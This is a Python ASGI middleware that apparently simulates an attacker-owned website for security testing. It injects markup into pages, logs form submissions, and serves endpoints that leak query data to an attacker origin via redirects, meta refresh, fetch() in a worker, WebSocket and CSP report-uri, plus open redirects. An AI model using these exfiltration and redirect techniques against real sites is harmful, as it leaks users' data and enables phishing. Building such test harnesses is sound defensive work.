"""A site whose pages an attacker writes into, and which answers at addresses of the attacker's choosing.

Wraps any ASGI application. What changes the site is written down here, at the server, whatever a page shows."""

from __future__ import annotations

import base64
from collections.abc import Awaitable, Callable, MutableMapping
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import parse_qs, parse_qsl, unquote

Scope = MutableMapping[str, Any]
Receive = Callable[[], Awaitable[MutableMapping[str, Any]]]
Send = Callable[[MutableMapping[str, Any]], Awaitable[None]]
App = Callable[[Scope, Receive, Send], Awaitable[None]]
OWN = "/~attack/"


@dataclass(frozen=True)
class Written:
    """A request that was not a GET or HEAD, as it arrived."""

    method: str
    path: str
    fields: tuple[tuple[str, str], ...]


@dataclass
class OwnedSite:
    """`markup` is added to every page of `app`; `attacker` is the other origin, such as `http://localhost:1234`."""

    app: App
    attacker: str
    markup: str = ""
    written: list[Written] = field(default_factory=list)

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        path = str(scope.get("path", ""))
        if scope["type"] != "http":
            await self.app(scope, receive, send)
        elif path.startswith(OWN):
            await self._answer(path.removeprefix(OWN), scope, receive, send)
        elif scope["method"] in ("GET", "HEAD"):
            await self.app(scope, receive, _Injected(send, self.markup))
        else:
            body = await _read(receive)
            fields = tuple(parse_qsl(body.decode("utf-8", "replace"), keep_blank_values=True))
            self.written.append(Written(scope["method"], path, fields))
            await self.app(scope, _again(body), send)

    async def _answer(self, name: str, scope: Scope, receive: Receive, send: Send) -> None:
        """The attacker's own addresses: redirects of every kind, workers, a page that repeats what it got."""
        await _read(receive)
        query = scope.get("query_string", b"").decode("latin-1")
        given = parse_qs(query).get("u", [""])[0]
        leak = f"{self.attacker}/leak?{query}"
        frame = f"<iframe src='{OWN}reporting2?{query}'></iframe>"
        redirects = {
            "302": (302, leak),
            "307": (307, f"{self.attacker}/leak"),
            "twice": (302, f"{OWN}302"),
            "to-form": (302, f"{self.attacker}/form"),
            "open": (302, _absolute(given)),
            "open64": (302, _from_base64(given)),
        }
        pages = {
            "meta": f"<meta http-equiv=refresh content='0;url={self.attacker}/form'>",
            "echo": f"<title>Results</title><img src='{self.attacker}/i?{query}'>",
            "reporting": f"<meta http-equiv=refresh content=9>{frame}",
            "reporting2": "<script>1</script>",
        }
        scripts = {
            "worker.js": f"fetch('{self.attacker}/i?{query}', {{mode: 'no-cors'}})",
            "socket.js": f"new WebSocket('{self.attacker.replace('http', 'ws', 1)}/leak?{query}')",
        }
        if name in redirects:
            status, target = redirects[name]
            await _say(send, status, "", {"location": target})
        elif name == "refresh":
            await _say(send, 200, "<title>Wait</title>", {"refresh": f"0;url={self.attacker}/form"})
        elif name in scripts:
            await _say(send, 200, scripts[name], {"content-type": "text/javascript"})
        else:
            csp = {"content-security-policy": f"script-src 'none'; report-uri {leak}"} if "2" in name else {}
            await _say(send, 200, pages.get(name, "<title>?</title>"), csp)


class _Injected:
    """Passes an answer on; a page gets the markup at its end."""

    def __init__(self, send: Send, markup: str) -> None:
        self.send, self.markup = send, markup.encode()
        self.page = False

    async def __call__(self, message: MutableMapping[str, Any]) -> None:
        if message["type"] == "http.response.start":
            headers = list(message.get("headers") or ())
            self.page = any(name == b"content-type" and value.startswith(b"text/html") for name, value in headers)
            if self.page:
                message["headers"] = [one for one in headers if one[0] != b"content-length"]
        elif self.page and not message.get("more_body"):
            body = bytes(message.get("body") or b"")
            head, end, tail = body.rpartition(b"</body>")
            message["body"] = head + self.markup + end + tail if end else body + self.markup
        await self.send(message)


async def _read(receive: Receive) -> bytes:
    body = b""
    while True:
        message = await receive()
        body += bytes(message.get("body") or b"")
        if not message.get("more_body"):
            return body


def _again(body: bytes) -> Receive:
    async def receive() -> MutableMapping[str, Any]:
        return {"type": "http.request", "body": body, "more_body": False}

    return receive


async def _say(send: Send, status: int, text: str, headers: dict[str, str]) -> None:
    known = {"content-type": "text/html"} | headers
    await send(
        {
            "type": "http.response.start",
            "status": status,
            "headers": [(name.encode(), value.encode()) for name, value in known.items()],
        }
    )
    await send({"type": "http.response.body", "body": text.encode()})


def _absolute(address: str) -> str:
    address = unquote(address).strip()
    return address if "//" in address else f"http://{address}"


def _from_base64(text: str) -> str:
    try:
        return base64.b64decode(text).decode("utf-8", "replace")
    except ValueError:
        return "/"
